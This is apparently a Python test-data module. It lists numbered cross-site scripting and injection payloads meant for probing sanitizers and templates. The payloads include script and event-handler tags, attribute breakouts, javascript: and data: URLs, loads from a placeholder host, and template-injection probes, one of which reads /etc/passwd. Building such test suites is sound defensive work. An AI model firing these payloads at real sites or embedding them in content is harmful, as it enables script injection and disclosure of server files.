"""Texts that would run script, load from elsewhere or restyle a page, if some template or filter let them through.

`@` stands for a number of its own in each place, so that what ran tells where it stood. The product of the tags and
`50337` is what a template would make of the texts in its signs.
"""

JS = "alert(@)"
ELSEWHERE = "http://elsewhere.test/@"

TAGS = f"""
<script>{JS}</script>
<ScRiPt>{JS}</sCrIpT >
<script src={ELSEWHERE}.js></script>
<script type=module>import "{ELSEWHERE}.js"</script>
</script><script>{JS}</script>
</title><script>{JS}</script>
</style><script>{JS}</script>
</textarea><script>{JS}</script>
--><script>{JS}</script>
--!><script>{JS}</script>
]]><script>{JS}</script>
<![CDATA[<script>{JS}</script>]]>
?><script>{JS}</script>
<<script>{JS}//<</script>
<scr<script>ipt>{JS}</scr</script>ipt>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">{JS}</x:script>
<?xml-stylesheet type="text/xsl" href="{ELSEWHERE}.xsl"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "{ELSEWHERE}">]>&y;
<svg onload={JS}>
<svg/onload={JS}//
<svg><script>{JS}</script></svg>
<svg><script href="{ELSEWHERE}.js"/></svg>
<svg><animate onbegin={JS} attributeName=x dur=1s>
<svg><image href="{ELSEWHERE}.png"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{JS}'/></svg>#x"/></svg>
<svg><a xlink:href="javascript:{JS}"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={JS}&gt;">
<math href="javascript:{JS}">x</math>
<img src=x onerror={JS}>
<img/src/onerror={JS}>
<IMG SRC=x OnErRoR={JS}
<img src="{ELSEWHERE}.png">
<img srcset="{ELSEWHERE}.png 1x">
<picture><source srcset="{ELSEWHERE}.png"><img alt=x></picture>
<video poster="{ELSEWHERE}.png"><source onerror={JS}></video>
<audio src="{ELSEWHERE}.mp3" autoplay></audio>
<iframe src="javascript:parent.{JS}"></iframe>
<iframe srcdoc="<script>parent.{JS}</script>"></iframe>
<object data="{ELSEWHERE}"></object>
<embed src="{ELSEWHERE}">
<link rel=stylesheet href="{ELSEWHERE}.css">
<link rel=prefetch href="{ELSEWHERE}">
<style>@import "{ELSEWHERE}.css";</style>
<style>body {{ background: url({ELSEWHERE}.png) }}</style>
<p style="background: url({ELSEWHERE}.png)">x</p>
<table background="{ELSEWHERE}.png"><tr><td>x</table>
<base href="http://elsewhere.test/">
<meta http-equiv=refresh content="0;url={ELSEWHERE}">
<form action="{ELSEWHERE}"><input autofocus onfocus={JS}></form>
<button formaction="javascript:{JS}" autofocus onfocus={JS}>x</button>
<details open ontoggle={JS}><summary>x</summary></details>
<body onload={JS} onpageshow={JS}>
<marquee onstart={JS}>x</marquee>
<div contenteditable autofocus onfocus={JS}>x</div>
<p popover id=documentElement onbeforetoggle={JS}>x</p>
<template shadowrootmode=open><script>{JS}</script></template>
<noscript><p title="</noscript><img src=x onerror={JS}>">
<xmp><p title="</xmp><img src=x onerror={JS}>">
<plaintext><img src=x onerror={JS}>
<form id=attributes><input name=documentElement><img name=getElementById></form>
<a href="javascript:{JS}" autofocus onfocus={JS}>x</a>
<a id=defaultView name=cookie ping="{ELSEWHERE}">x</a>
"""

BREAKOUTS = f"""
" autofocus onfocus="{JS}" x="
' autofocus onfocus='{JS}' x='
" style="animation: spin" onanimationstart="{JS}
"><script>{JS}</script>
'><script>{JS}</script>
"><img src=x onerror={JS}>
'/><svg onload={JS}>
x onfocus={JS} autofocus
` onfocus={JS} autofocus `
" src="{ELSEWHERE}.png" onerror="{JS}
" http-equiv="refresh" content="0;url={ELSEWHERE}
0;url=javascript:{JS}
";{JS};//
';{JS};//
\\";{JS};//
\\u0022;{JS};//
${{{JS}}}
`-{JS}-`
}}}};body{{background:url({ELSEWHERE}.png)
expression({JS})
"""

ADDRESSES = f"""
javascript:{JS}
JaVaScRiPt:{JS}
java&#9;script:{JS}
java&NewLine;script:{JS}
javascript&colon;{JS}
javascript&#58{JS}
&#106;avascript:{JS}
&#x6A&#x61vascript:{JS}
&#1;javascript:{JS}
%6aavascript:{JS}
javascript://%0a{JS}
javascript:/*x*/{JS}//https://example.org/
vbscript:{JS}
feed:javascript:{JS}
view-source:javascript:{JS}
data:text/html,<script>{JS}</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>
blob:https://example.org/@
//elsewhere.test/@
\\\\elsewhere.test\\@
https:\\\\elsewhere.test/@
/\\elsewhere.test/@
"""

SIGNS = f"""
{{{{ 7191 * 7 }}}}
{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}
{{% include "/etc/passwd" %}}
#{{ 7191 * 7 }}
<%= 7191 * 7 %>
&lt;script&gt;{JS}&lt;/script&gt;
&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;
&#60;img src=x onerror={JS}&#62;
&quot; autofocus onfocus={JS} x=&quot;
＜script＞{JS}＜/script＞
[x](javascript:{JS})
![x]({ELSEWHERE}.png)
![" onerror="{JS}](x.png)
<javascript:{JS}>
__proto__
constructor
document
documentElement
"""

SEPARATED = [f'\u2028{JS}//\u2028";{JS}//', f"java\tscript:{JS}"]

ATTACKS = [line for text in (TAGS, BREAKOUTS, ADDRESSES, SIGNS) for line in text.strip("\n").split("\n")] + SEPARATED


def numbered(text: str, number: int) -> str:
    """The text with a number of its own; the signs of Markdown for it are no `@`."""
    return text.replace("@import", "\0").replace("@", str(number)).replace("\0", "@import")


def grouped(size: int) -> list[list[str]]:
    """All of them, some at a time."""
    return [ATTACKS[start : start + size] for start in range(0, len(ATTACKS), size)]
